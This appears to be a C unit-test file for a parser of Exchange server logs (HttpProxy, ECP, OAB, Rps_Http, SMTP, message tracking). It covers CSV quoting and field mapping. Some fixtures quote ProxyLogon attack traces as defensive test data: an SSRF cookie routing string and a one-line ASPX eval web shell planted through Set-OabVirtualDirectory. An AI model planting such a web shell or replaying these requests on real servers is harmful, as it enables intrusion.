/*
 * Event parsing, the Exchange CSV logs (filter/parse_w3c.c, comma separated, header-driven):
 * HttpProxy on real lines and Test-ProxyLogon exports, CSV quoting and its malformed cases,
 * the 128-column header limit, every documented default column reaching a named field, ECP
 * EventData pairs, OABGenerator, Rps_Http, SMTP Receive and Message Tracking (whose fields stay
 * native, out of the web taxonomy). Every fixture line is handed to the parser as an exact-size
 * heap copy with no NUL after it, so a read past the line's end shows under ASan.
 */
#include "parse_helpers.h"

static void test_httpproxy_real_header_and_benign_line_parse(void **state)
{
    (void)state;
    static const char *const reasons[] = {"Software", "Version", "Log-type", "Date", "Fields"};
    fixture fx;
    fx_load(&fx, "httpproxy_real.log");
    weir_parser *p = new_parser(WEIR_FMT_HTTPPROXY);
    weir_event *ev = new_event(0);
    for (size_t i = 0; i < 5; i++) {
        assert_int_equal(parse_fx(p, ev, &fx, i), WEIR_PARSE_HEADER);
        assert_string_equal(weir_event_reason(ev), reasons[i]);
    }
    assert_int_equal(parse_fx(p, ev, &fx, 5), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_TIMESTAMP, "2023-01-06T02:20:32.841Z");
    expect_field(ev, WEIR_F_REQUEST_ID, "47a25adf-57a3-4538-ba98-4bafdfee8095");
    expect_field(ev, WEIR_F_PROTOCOL, "Owa");
    expect_field(ev, WEIR_F_CS_HOST, "95.1.2.3");
    expect_field(ev, WEIR_F_CS_URI_STEM, "/owa/admin.cfg");
    expect_field(ev, WEIR_F_C_URI, "/owa/admin.cfg"); /* UrlQuery empty: no '?' */
    expect_field(ev, WEIR_F_CS_METHOD, "GET");
    expect_field(ev, WEIR_F_SC_STATUS, "302");
    expect_field(ev, WEIR_F_C_IP, "95.5.6.7");
    expect_field(ev, WEIR_F_ANCHOR_MAILBOX, "");
    expect_field(ev, WEIR_F_CS_USERNAME, "");
    expect_field(ev, WEIR_F_S_COMPUTERNAME, "SERVER_HOSTNAME");
    expect_field(ev, WEIR_F_GENERIC_INFO,
                 "BeginRequest=2023-01-06T02:20:32.840Z;CorrelationID=<empty>;SharedCacheGuard=0;"
                 "NoCookies=302 - GET/E14AuthPost;EndRequest=2023-01-06T02:20:32.841Z;");
    expect_field(ev, WEIR_F_ROUTING_STATUS, "");
    /* the same line with no header: the default layout is that header */
    weir_parser *bare = new_parser(WEIR_FMT_HTTPPROXY);
    assert_int_equal(parse_fx(bare, ev, &fx, 5), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_CS_URI_STEM, "/owa/admin.cfg");
    weir_parser_destroy(bare);
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_httpproxy_native_columns_are_reachable_by_either_name(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "httpproxy_real.log");
    weir_parser *p = new_parser(WEIR_FMT_HTTPPROXY);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 5), WEIR_PARSE_OK);
    static const char *const pairs[][2] = {
        {"UrlStem", "cs-uri-stem"}, {"UserAgent", "cs-user-agent"}, {"Method", "cs-method"},
        {"HttpStatus", "sc-status"}, {"ClientIpAddress", "c-ip"},   {"UrlHost", "cs-host"},
    };
    for (size_t i = 0; i < sizeof(pairs) / sizeof(pairs[0]); i++) {
        const weir_view *a = weir_event_get(ev, weir_field_lookup(pairs[i][0]));
        const weir_view *b = weir_event_get(ev, weir_field_lookup(pairs[i][1]));
        assert_non_null(a);
        assert_ptr_equal(a, b);
    }
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_test_proxylogon_export_header_row_and_quoted_values(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "httpproxy_testproxylogon.csv");
    weir_parser *p = new_parser(WEIR_FMT_HTTPPROXY);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_HEADER);
    assert_string_equal(weir_event_reason(ev), "csv-header");
    assert_int_equal(parse_fx(p, ev, &fx, 1), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_ANCHOR_MAILBOX,
                 "ServerInfo~a]@servernavn.xxx.local:444/autodiscover/autodiscover.xml?#");
    expect_field(ev, WEIR_F_ROUTING_HINT, "X-BEResource-Cookie");
    expect_field(ev, WEIR_F_C_IP, "130.255.189.21");
    expect_field(ev, WEIR_F_CS_USER_AGENT, "ExchangeServicesClient/0.0.0.0");
    expect_field(ev, WEIR_F_CS_URI_STEM, "/ecp/y.js");
    expect_field(ev, WEIR_F_SC_STATUS, "200");
    assert_int_equal(parse_fx(p, ev, &fx, 3), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_ANCHOR_MAILBOX,
                 "ServerInfo~a]@servernavn.xxx.local:444/ecp/DDI/DDIService.svc/SetObject?"
                 "msExchEcpCanary=8BeqxxxWYd1L8.&schema=ResetOABVirtualDirectory#");
    expect_field(ev, WEIR_F_CS_HOST, "autodiscover.xxx.no");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_csv_quoted_value_keeps_commas_and_undoubles_quotes(void **state)
{
    (void)state;
    weir_parser *p = new_parser(WEIR_FMT_HTTPPROXY);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_str(p, ev, "#Fields: DateTime,UserAgent,UrlStem,UrlQuery"),
                     WEIR_PARSE_HEADER);
    assert_int_equal(parse_str(p, ev,
                               "2023-01-01T00:00:00.000Z,\"Mozilla/5.0 (KHTML, like \"\"Gecko\"\")"
                               "\",/ews/exchange.asmx,\"?a=1,2\""),
                     WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_CS_USER_AGENT, "Mozilla/5.0 (KHTML, like \"Gecko\")");
    expect_raw(ev, WEIR_F_CS_USER_AGENT, "Mozilla/5.0 (KHTML, like \"Gecko\")");
    expect_field(ev, WEIR_F_C_URI, "/ews/exchange.asmx?a=1,2"); /* UrlQuery brings its '?' */
    weir_event_destroy(ev);
    weir_parser_destroy(p);
}

static void test_csv_unterminated_quote_is_malformed(void **state)
{
    (void)state;
    weir_parser *p = new_parser(WEIR_FMT_HTTPPROXY);
    weir_event *ev = new_event(0);
    parse_str(p, ev, "#Fields: DateTime,UserAgent,UrlStem");
    assert_int_equal(parse_str(p, ev, "2023-01-01T00:00:00.000Z,\"Mozilla (open,/owa/"),
                     WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "unterminated quote in column 2");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
}

static void test_csv_text_after_a_closing_quote_is_malformed(void **state)
{
    (void)state;
    weir_parser *p = new_parser(WEIR_FMT_HTTPPROXY);
    weir_event *ev = new_event(0);
    parse_str(p, ev, "#Fields: DateTime,UserAgent,UrlStem");
    assert_int_equal(parse_str(p, ev, "2023-01-01T00:00:00.000Z,\"a\"b,/owa/"),
                     WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "character after a closing quote in column 2");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
}

static void test_fields_header_over_128_columns_is_refused_and_old_layout_kept(void **state)
{
    (void)state;
    char hdr[2048] = "#Fields: DateTime";
    for (int i = 0; i < 130; i++)
        strcat(hdr, ",X");
    weir_parser *p = new_parser(WEIR_FMT_HTTPPROXY);
    weir_event *ev = new_event(0);
    parse_str(p, ev, "#Fields: DateTime,UrlStem");
    assert_int_equal(parse_str(p, ev, hdr), WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "more than 128 columns");
    assert_int_equal(parse_str(p, ev, "2023-01-01T00:00:00.000Z,/owa/"), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_CS_URI_STEM, "/owa/");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
}

/* A line of distinct values "c0,c1,..." in each documented default layout: every column must
 * land in a field of its own, so no documented column is silently dropped. */
static void test_every_documented_column_is_a_named_field(void **state)
{
    (void)state;
    static const struct {
        weir_format f;
        size_t ncols;
    } layouts[] = {
        {WEIR_FMT_IIS, 15},     {WEIR_FMT_HTTPPROXY, 74},   {WEIR_FMT_ECP, 4},
        {WEIR_FMT_RPSHTTP, 38}, {WEIR_FMT_SMTPRECEIVE, 9}, {WEIR_FMT_MSGTRACK, 30},
    };
    weir_event *ev = new_event(0);
    for (size_t k = 0; k < sizeof(layouts) / sizeof(layouts[0]); k++) {
        char line[1024] = "";
        for (size_t c = 0; c < layouts[k].ncols; c++) {
            char v[32];
            snprintf(v, sizeof(v), "%sc%zu", c ? (layouts[k].f == WEIR_FMT_IIS ? " " : ",") : "",
                     c);
            strcat(line, v);
        }
        weir_parser *p = new_parser(layouts[k].f);
        assert_int_equal(parse_str(p, ev, line), WEIR_PARSE_OK);
        bool seen[128] = {false};
        size_t distinct = 0;
        for (size_t i = 0; i < weir_event_nfields(ev); i++) {
            const weir_view *r = weir_event_get_raw(ev, weir_event_field_id(ev, i));
            char v[16];
            if (r->len < 2 || r->len >= sizeof(v) || r->p[0] != 'c')
                continue;
            memcpy(v, r->p + 1, r->len - 1);
            v[r->len - 1] = '\0';
            char *end;
            unsigned long c = strtoul(v, &end, 10);
            if (*end == '\0' && c < 128 && !seen[c]) {
                seen[c] = true;
                distinct++;
            }
        }
        if (distinct != layouts[k].ncols)
            fail_msg("%s: %zu of %zu columns reach a field", weir_format_name(layouts[k].f),
                     distinct, layouts[k].ncols);
        /* one column short is malformed, also where the last column takes the rest */
        *strrchr(line, layouts[k].f == WEIR_FMT_IIS ? ' ' : ',') = '\0';
        assert_int_equal(parse_str(p, ev, line), WEIR_PARSE_MALFORMED);
        weir_parser_destroy(p);
    }
    weir_event_destroy(ev);
}

static void test_ecp_real_set_virtual_directory_line_exposes_the_cmdlet(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "ecp_real.log");
    weir_parser *p = new_parser(WEIR_FMT_ECP);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_HEADER); /* TimeStamp,EventData */
    assert_int_equal(parse_fx(p, ev, &fx, 1), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_TIMESTAMP, "2021-03-03T06:49:53.772Z");
    /* EventData holds an unquoted comma (S18 reduced the export): it takes the rest */
    char rest[1024];
    assert_true(fx.len[1] - 25 < sizeof(rest));
    memcpy(rest, fx.line[1] + 25, fx.len[1] - 25); /* after "<timestamp>," */
    rest[fx.len[1] - 25] = '\0';
    expect_field(ev, WEIR_F_EVENT_DATA, rest);
    expect_field(ev, weir_field_lookup("CMD"),
                 "Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"\"JScript\"\" "
                 "runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"klk123456\"\"],"
                 "\"\"unsafe\"\");}</script>'.Identity='982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_ecp_single_quoted_pair_keeps_its_semicolons_and_later_pairs(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "ecp_real.log");
    weir_parser *p = new_parser(WEIR_FMT_ECP);
    weir_event *ev = new_event(0);
    parse_fx(p, ev, &fx, 0);
    assert_int_equal(parse_fx(p, ev, &fx, 2), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_ECP_CMD,
                 "Remove-OABVirtualDirectory.Force=$true.Identity='servernavn\\OAB (Default Web "
                 "Site)'");
    expect_field(ev, WEIR_F_ECP_EX, "");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_ecp_default_layout_splits_event_data_pairs(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "ecp_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_ECP);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_SERVER_NAME, "EXCH01");
    expect_field(ev, WEIR_F_EVENT_ID, "ECP.Request");
    expect_field(ev, WEIR_F_ECP_CMD, "Get-InboxRule");
    expect_field(ev, WEIR_F_ECP_URL,
                 "/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=abc=");
    expect_raw(ev, WEIR_F_ECP_URL,
               "/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=abc%3D");
    expect_field(ev, WEIR_F_ECP_SID, "0b4c2e61-1c55-4f0f-a1a0-2f3c7d9e8b10");
    expect_field(ev, WEIR_F_ECP_REQID, "");
    expect_field(ev, WEIR_F_ECP_REFERRER, "");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_oab_line_is_exposed_as_its_message(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "oab_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_OAB);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_MESSAGE,
                 "Download failed and temporary file "
                 "'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed.");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_rpshttp_default_layout_exposes_client_info_and_uri(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "rpshttp_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_RPSHTTP);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_CLIENT_INFO, "python-requests/2.28.1");
    expect_field(ev, WEIR_F_COMMAND_NAME, "Get-Mailbox");
    expect_field(ev, WEIR_F_CS_USERNAME, "CORP\\svc-mail");
    expect_field(ev, WEIR_F_SC_STATUS, "200");
    expect_field(ev, WEIR_F_SC_SUBSTATUS, "0");
    expect_field(ev, WEIR_F_C_URI, "/powershell?X-Rps-CAT=VgEAVAdXaW5kb3dz");
    expect_field(ev, WEIR_F_CS_URI_QUERY_RAW, "?X-Rps-CAT=VgEAVAdXaW5kb3dz");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_smtpreceive_default_layout_unquotes_data_with_commas(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "smtpreceive_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_SMTPRECEIVE);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_CONNECTOR_ID, "MAIL01\\Default Frontend MAIL01");
    expect_field(ev, WEIR_F_REMOTE_ENDPOINT, "203.0.113.50:51234");
    expect_field(ev, WEIR_F_SMTP_EVENT, "<");
    expect_field(ev, WEIR_F_SMTP_DATA, "MAIL FROM:<a@example.net> SIZE=1024, BODY=8BITMIME");
    expect_field(ev, WEIR_F_SMTP_CONTEXT, "");
    assert_int_equal(parse_fx(p, ev, &fx, 1), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_SMTP_CONTEXT, "Inbound AUTH LOGIN failed because of LogonDenied");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_msgtrack_fields_stay_native_not_web_taxonomy(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "msgtrack_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_MSGTRACK);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_MESSAGE_SUBJECT, "Invoice, \"urgent\" /owa/auth/x.js");
    expect_field(ev, WEIR_F_SENDER_ADDRESS, "a@example.net");
    expect_field(ev, WEIR_F_TRACK_EVENT_ID, "RECEIVE");
    expect_field(ev, WEIR_F_CLIENT_IP, "203.0.113.50");
    expect_field(ev, WEIR_F_SCHEMA_VERSION, "15.01.2507.016");
    /* a subject quoting an attack path must not feed web fields (facts §0.6) */
    expect_absent(ev, WEIR_F_C_IP);
    expect_absent(ev, WEIR_F_C_URI);
    expect_absent(ev, WEIR_F_CS_URI_QUERY);
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_httpproxy_real_header_and_benign_line_parse),
        cmocka_unit_test(test_httpproxy_native_columns_are_reachable_by_either_name),
        cmocka_unit_test(test_test_proxylogon_export_header_row_and_quoted_values),
        cmocka_unit_test(test_csv_quoted_value_keeps_commas_and_undoubles_quotes),
        cmocka_unit_test(test_csv_unterminated_quote_is_malformed),
        cmocka_unit_test(test_csv_text_after_a_closing_quote_is_malformed),
        cmocka_unit_test(test_fields_header_over_128_columns_is_refused_and_old_layout_kept),
        cmocka_unit_test(test_every_documented_column_is_a_named_field),
        cmocka_unit_test(test_ecp_real_set_virtual_directory_line_exposes_the_cmdlet),
        cmocka_unit_test(test_ecp_single_quoted_pair_keeps_its_semicolons_and_later_pairs),
        cmocka_unit_test(test_ecp_default_layout_splits_event_data_pairs),
        cmocka_unit_test(test_oab_line_is_exposed_as_its_message),
        cmocka_unit_test(test_rpshttp_default_layout_exposes_client_info_and_uri),
        cmocka_unit_test(test_smtpreceive_default_layout_unquotes_data_with_commas),
        cmocka_unit_test(test_msgtrack_fields_stay_native_not_web_taxonomy),
    };
    return parse_tests_done(cmocka_run_group_tests(tests, NULL, NULL));
}
